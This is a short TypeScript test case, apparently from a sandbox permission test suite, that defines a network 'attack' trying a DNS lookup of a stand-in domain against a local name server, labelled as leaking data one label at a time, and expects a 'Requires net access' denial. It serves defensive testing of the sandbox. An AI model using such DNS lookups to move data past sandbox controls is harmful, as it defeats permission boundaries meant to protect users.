import type { Attack } from '../attack.ts';
import { notCapable } from '../expectations.ts';

export const attack: Attack = {
  name: 'asks the name service',
  family: 'network',
  threat: 'data out, one label at a time',
  deed: (range) => `
    return await Deno.resolveDns('data.example.com', 'A', { nameServer: { ipAddr: '127.0.0.1', port: ${range.udpPort} } });
`,
  expect: notCapable(/^Requires net access to "(\d|\[)/),
};
